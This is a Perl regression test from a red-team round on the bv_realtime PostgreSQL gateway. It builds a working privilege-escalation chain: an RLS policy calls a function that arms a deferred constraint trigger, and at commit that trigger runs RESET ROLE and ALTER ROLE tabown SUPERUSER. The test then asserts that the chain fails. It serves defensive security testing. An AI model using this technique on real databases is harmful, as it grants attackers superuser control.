# Red-team round 7 (bv_realtime 0.5.0): finding 2 without any handler.
#
# The gateway checks each table change's visibility as each subscriber
# (rt_run_guarded: switch role, rt_role_lock, the SELECT under the table's
# RLS policies, rt_role_unlock, then commit).  A policy is the table
# owner's code; a VOLATILE policy function may write, e.g. into a table of
# the owner's with a CONSTRAINT TRIGGER ... DEFERRABLE INITIALLY DEFERRED.
# That trigger fires at the worker's commit, after the unlock, with the
# subscriber's role still set: it can RESET ROLE and is the worker's
# session user, the bootstrap superuser.  So any role with CREATE on the
# database whose table bv_admin enables for realtime (docs/bv_realtime.md:
# enable_table, for tables of roles bv_admin is a member of) becomes a
# superuser as soon as a client subscribes and a row changes.
# Expected: nothing run as a client survives the unlock (deferred triggers
# fired, or refused, inside the lock), no code of another role ever runs as
# the superuser.
use strict;
use warnings;

use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use BvTest;
use lib "$ENV{BV_SRC}/tests/tools";
use BvRealtime;

my $node = BvTest::new_node('red7poldef');
BvTest::create_suite_db($node);
my $rt = BvRealtime->new($node);

$rt->sql(q{
CREATE ROLE tabown LOGIN;
GRANT CREATE ON DATABASE bitvelocity TO tabown;
SET ROLE tabown;
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.calls (who text, sess text, super boolean);
GRANT INSERT ON evil.calls TO PUBLIC;
CREATE TABLE evil.trap (n int);
GRANT INSERT ON evil.trap TO PUBLIC;
CREATE FUNCTION evil.later() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN
    RESET ROLE;
  EXCEPTION WHEN OTHERS THEN
    INSERT INTO evil.calls VALUES (current_user, session_user || '@' || current_setting('application_name'), false);
    RETURN NULL;
  END;
  INSERT INTO evil.calls VALUES (current_user, session_user || '@' || current_setting('application_name'),
      (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user));
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
    EXECUTE 'ALTER ROLE tabown SUPERUSER';
  END IF;
  RETURN NULL;
END $f$;
CREATE CONSTRAINT TRIGGER later AFTER INSERT ON evil.trap
  DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.later();
CREATE FUNCTION evil.arm() RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  INSERT INTO evil.trap VALUES (1);
  RETURN true;
END $f$;
CREATE TABLE evil.items (id int PRIMARY KEY, owner text);
ALTER TABLE evil.items ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON evil.items FOR SELECT USING (evil.arm());
GRANT SELECT ON evil.items TO bv_user;
});
is($rt->sql(q{SELECT rolsuper FROM pg_roles WHERE rolname = 'tabown'}), 'f', 'control: tabown is no superuser');
$rt->sql(q{SELECT bv_realtime.enable_table('evil.items')});

my $sub = $rt->ws(query => 'access_token=' . $rt->token(role => 'bv_user', sub => 'u1') . '&topics=table:evil.items');
$rt->wait_for(sub { grep { ($_->{type} // '') eq 'subscribed' } $sub->frames }, 'subscribed');
# tabown's own session (not a superuser's SET ROLE): nothing to RESET to
$node->safe_psql('bitvelocity', q{INSERT INTO evil.items VALUES (1, 'u1')}, extra_params => [ '-U', 'tabown' ]);
$rt->wait_for(sub { $sub->messages >= 1 }, 'the change was checked under the policy and delivered');
is(scalar($sub->messages), 1, 'control: the subscriber got the row (the policy ran in the gateway)');
ok($rt->wait_for(sub { $rt->sql(q{SELECT count(*) FROM evil.calls}) >= 1 }, 'the deferred trigger ran'),
	'control: the deferred trigger armed by the policy ran at the worker\'s commit');
{
	is($rt->sql(q{SELECT count(*) FROM evil.calls WHERE super}), '0', 'no function of the table owner ran as a superuser');
	is($rt->sql(q{SELECT rolsuper FROM pg_roles WHERE rolname = 'tabown'}), 'f', 'the table owner did not become a superuser');
}
diag 'calls: ' . $rt->sql(q{SELECT string_agg(who || '/' || sess || '/' || super, ',') FROM evil.calls});
$sub->stop;
done_testing();
